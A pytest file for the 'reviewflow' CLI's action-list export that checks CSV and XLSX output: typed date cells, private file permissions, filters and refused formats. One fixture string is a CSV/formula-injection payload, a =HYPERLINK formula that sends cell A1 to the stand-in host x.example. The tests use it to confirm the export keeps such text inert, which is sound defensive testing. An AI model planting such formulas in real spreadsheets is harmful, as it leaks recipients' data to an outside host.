"""`action list --format csv|xlsx --out FILE`: the actions a person may see as a spreadsheet, with typed cells
(dates as dates), text kept text (never a formula), and the same filters and visibility as the list."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from reviewflow.cli import cli
from reviewflow.engine.core.clock import SteppingClock
from reviewflow.engine.services.facade import Reviewflow
from reviewflow.store.db import Database

from tests.conftest import ADMIN
from tests.databases import Templates

T0 = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
LATER = "2026-03-10T09:00:00+00:00"
NO_ENV = {"REVIEWFLOW_USER": None, "REVIEWFLOW_NOW": None, "REVIEWFLOW_TOKEN": None, "REVIEWFLOW_CONFIG": None}
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _build(url: str) -> None:
    rf = Reviewflow(Database(url), SteppingClock(T0))
    try:
        rf.init()
        rf.first_admin(ADMIN, ADMIN)
        rf.add_user("a.khan", ["business_manager"])
        rf.add_user("m.patel", ["action_owner"], None, "Children's social care")
        rf.open_case("thematic_review", "TR-2026-001", "a.khan", {"theme": "Neglect", "theme_source": "audits"})
        rf.recommend("TR-2026-001", "a.khan", "Use the neglect toolkit", ["neglect"], ["Children's social care"])
        rf.add_action("TR-2026-001", "a.khan", "R1", HOSTILE, "Children's social care", "2026-02-02", "m.patel")
        rf.add_action("TR-2026-001", "a.khan", "R1", "Toolkit audit", "Police", "2026-06-01", None)
    finally:
        rf.db.dispose()


@pytest.fixture
def url(db_url: str, templates: Templates) -> str:
    templates.copy(db_url, "test_action_list_files: a thematic review with two actions", _build)
    return db_url


def _cli(url: str, *args: str, code: int = 0) -> Result:
    result = CliRunner().invoke(cli, ["--db", url, "--now", LATER, *args], env=NO_ENV)
    assert "Traceback" not in result.output + result.stderr
    assert result.exit_code == code, result.output + result.stderr
    return result


def test_the_workbook_has_dates_as_dates_and_text_as_text(url: str, tmp_path: Path) -> None:
    out = tmp_path / "actions.xlsx"
    done = _cli(url, "action", "list", "--out", str(out))
    assert done.stderr.strip() == f"wrote {out} (xlsx, 2 actions)"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    book = load_workbook(out)
    assert book.sheetnames == ["report", "key_figures", "actions"]
    figures = {row[0]: row[1] for row in book["key_figures"].iter_rows(min_row=2, values_only=True)}
    assert figures == {"actions": 2, "overdue": 1}
    sheet = book["actions"]
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert first["case"] == "TR-2026-001"
    assert first["due"] == datetime(2026, 2, 2)  # a date cell, not text
    assert sheet.cell(row=2, column=header.index("due") + 1).is_date
    assert first["overdue"] == "yes"
    assert first["description"] == "'" + HOSTILE  # a formula-looking text stays inert text
    assert sheet.cell(row=2, column=header.index("description") + 1).data_type == "s"
    assert [c.value for c in sheet["A"]][1:] == ["TR-2026-001", "TR-2026-001"]


def test_csv_and_the_filters(url: str, tmp_path: Path) -> None:
    printed = _cli(url, "action", "list", "--format", "csv", "--overdue").stdout
    rows = list(csv.DictReader(io.StringIO(printed)))
    assert [(r["action"], r["due"], r["overdue"]) for r in rows] == [("A1", "2026-02-02", "yes")]
    assert rows[0]["description"] == "'" + HOSTILE
    police = tmp_path / "police.csv"
    _cli(url, "action", "list", "--agency", "police", "--out", str(police))
    assert [r["action"] for r in csv.DictReader(io.StringIO(police.read_text("utf-8")))] == ["A2"]
    as_json = tmp_path / "all.json"
    _cli(url, "action", "list", "--out", str(as_json))
    assert [a["number"] for a in json.loads(as_json.read_text("utf-8"))] == ["A1", "A2"]


def test_a_workbook_needs_a_file_and_an_unknown_suffix_is_refused(url: str, tmp_path: Path) -> None:
    refused = _cli(url, "action", "list", "--format", "xlsx", code=1)
    assert refused.stderr.strip() == "Error: an xlsx list is a file, not text: add --out FILE.xlsx"
    odd = _cli(url, "action", "list", "--out", str(tmp_path / "actions.ods"), code=1)
    assert "name it .csv, .xlsx, .json or .txt, or give --format" in odd.stderr
    assert not (tmp_path / "actions.ods").exists()
    assert date(2026, 2, 2).isoformat() in _cli(url, "action", "list").stdout
